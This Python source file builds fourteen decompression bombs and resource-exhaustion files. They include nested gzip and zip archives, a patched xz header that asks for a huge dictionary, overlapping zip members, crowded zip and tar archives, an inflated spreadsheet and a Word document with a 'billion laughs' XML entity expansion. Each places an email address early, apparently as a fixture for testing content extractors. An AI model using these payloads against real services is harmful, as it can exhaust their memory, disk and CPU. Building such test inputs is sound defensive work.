"""Containers made to cost more than they hold: each with an address that can be read before.

As a program it writes the one that is named to standard output.
"""

import bz2
import gzip
import io
import lzma
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Protocol

from backports import zstd

ADDRESS = b"hanako@firm.example"
LINE = ADDRESS + b":pw\n"
MIB = 2**20


def gzipped(size: int) -> bytes:
    """Pack the address and so many zeros."""
    return squeezed(zlib.compressobj(9, zlib.DEFLATED, 31), size)


class Packer(Protocol):
    """What the compressors of the standard library have in common."""

    def compress(self, content: bytes, /) -> bytes:
        """Take in what follows."""

    def flush(self) -> bytes:
        """Give the rest."""


def squeezed(packer: Packer, size: int) -> bytes:
    """Pack the address and so many zeros, without ever holding them."""
    pieces = [packer.compress(LINE)]
    pieces += [packer.compress(bytes(MIB)) for _ in range(size // MIB)]
    return b"".join([*pieces, packer.flush()])


def twice_gzipped() -> bytes:
    """Pack a bomb once more: two kilobytes for a quarter of a gibibyte."""
    return gzip.compress(gzipped(256 * MIB), mtime=0)


def nested_deep() -> bytes:
    """Pack deeper than anybody does, a list in clear beside the rest each time."""
    packed = zipped({"list.txt": LINE})
    for _ in range(40):
        packed = zipped({"list.txt": LINE, "next.zip": packed})
    return packed


def xz_with_giant_dictionary() -> bytes:
    """Ask for a dictionary of 1.5 GB, for a few bytes."""
    filters = [{"id": lzma.FILTER_LZMA2, "dict_size": 2**20}]
    packed = bytearray(lzma.compress(LINE, lzma.FORMAT_XZ, filters=filters))
    at = packed.index(b"\x21\x01", 12)  # the filter's id, and the size of its properties
    packed[at + 2] = 40  # 4 GiB - 1
    start = 12
    size = (packed[start] + 1) * 4
    checked = bytes(packed[start : start + size - 4])
    packed[start + size - 4 : start + size] = struct.pack("<I", zlib.crc32(checked))
    return bytes(packed)


def zstd_window() -> bytes:
    """Pack the address and zeros with a window of a gibibyte."""
    parameter = zstd.CompressionParameter
    options = {int(parameter.window_log): 30, int(parameter.compression_level): 1}
    packer = zstd.ZstdCompressor(options=options)
    return squeezed(packer, 64 * MIB)


def zipped(members: Mapping[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Make an archive."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", packing) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def zip_of_zeros() -> bytes:
    """Hold a list and a quarter of a gibibyte of zeros."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("list.txt", LINE)
        with archive.open("zeros.txt", "w") as member:
            for _ in range(256):
                member.write(bytes(MIB))
    return target.getvalue()


def nested_zips() -> bytes:
    """Hold sixteen archives in each of sixteen, six levels deep: 64 GB in a few kilobytes."""
    packed = zipped({"zeros.txt": bytes(4 * MIB)})
    for level in range(6):
        members = {f"{n:02}.zip": packed for n in range(16)}
        packed = zipped({"00.txt": LINE, **members} if level == 5 else members)
    return packed


def overlapping_zip() -> bytes:
    """Name one member sixty thousand times."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = squeezed(packer, 32 * MIB)
    name = b"a.txt"
    crc = zlib.crc32(bytes(32 * MIB), zlib.crc32(LINE))
    sizes = struct.pack("<III", crc, len(content), 32 * MIB + len(LINE))
    local = b"PK\3\4" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes
    local += struct.pack("<HH", len(name), 0) + name + content
    entry = b"PK\1\2" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0) + sizes
    entry += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    count = 60_000
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(entry) * count, len(local), 0)
    return local + entry * count + b"PK\5\6" + end


def crowded_zip() -> bytes:
    """Hold 65,535 members of nothing."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("0.txt", LINE)
        for number in range(1, 65_535):
            archive.writestr(zipfile.ZipInfo(f"{number}.txt"), b"")
    return target.getvalue()


def crowded_tar() -> bytes:
    """Hold a million members of nothing, packed."""
    header = bytearray(512)
    header[:5] = b"0.txt"
    header[100:108], header[124:136] = b"0000644\0", b"00000000000\0"
    header[156:157], header[257:265] = b"0", b"ustar\x0000"
    header[148:156] = b" " * 8
    header[148:156] = f"{sum(header):06o}\0 ".encode()
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
    first = io.BytesIO()
    with tarfile.open(fileobj=first, mode="w") as archive:
        entry = tarfile.TarInfo("list.txt")
        entry.size = len(LINE)
        archive.addfile(entry, io.BytesIO(LINE))
    pieces = [packer.compress(first.getvalue()[:1024])]
    pieces += [packer.compress(bytes(header) * 10_000) for _ in range(100)]
    return b"".join([*pieces, packer.flush()])


def sheet_of_zeros() -> bytes:
    """Be a workbook whose shared texts would fill gibibytes."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rest = b"<si><t>" + b"0" * 16 * MIB + b"</t></si>"
    return zipped(
        {
            "[Content_Types].xml": b"<Types/>",
            "xl/workbook.xml": f'<workbook xmlns="{main}"/>'.encode(),
            "xl/worksheets/sheet1.xml": (
                f'<worksheet xmlns="{main}"><sheetData><row><c t="inlineStr"><is><t>'.encode()
                + ADDRESS
                + b'</t></is></c><c t="s"><v>0</v></c></row></sheetData></worksheet>'
            ),
            "xl/sharedStrings.xml": f'<sst xmlns="{main}">'.encode() + rest * 8 + b"</sst>",
        }
    )


def laughing_document() -> bytes:
    """Be a letter with an entity that would expand to gibibytes."""
    lols = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    declared = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "lol">{lols}]>'
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = f'<w:document xmlns:w="{space}"><w:body><w:p><w:r><w:t>{ADDRESS.decode()}'
    end = "&l11;</w:t></w:r></w:p></w:body></w:document>"
    document = f"{declared}{body}{end}".encode()
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": document})


BOMBS: Mapping[str, Callable[[], bytes]] = {
    "zeros by gzip": lambda: gzipped(256 * MIB),
    "gzip in gzip": twice_gzipped,
    "zips forty deep": nested_deep,
    "bzip2": lambda: squeezed(bz2.BZ2Compressor(), 128 * MIB),
    "xz": lambda: squeezed(lzma.LZMACompressor(preset=1), 128 * MIB),
    "xz with a giant dictionary": xz_with_giant_dictionary,
    "zstd with a giant window": zstd_window,
    "a zip of zeros": zip_of_zeros,
    "zips six deep": nested_zips,
    "a zip whose members overlap": overlapping_zip,
    "a zip of 65,535 members": crowded_zip,
    "a tar of a million members": crowded_tar,
    "a workbook": sheet_of_zeros,
    "a letter that laughs": laughing_document,
}


if __name__ == "__main__":
    sys.stdout.buffer.write(BOMBS[sys.argv[1]]())
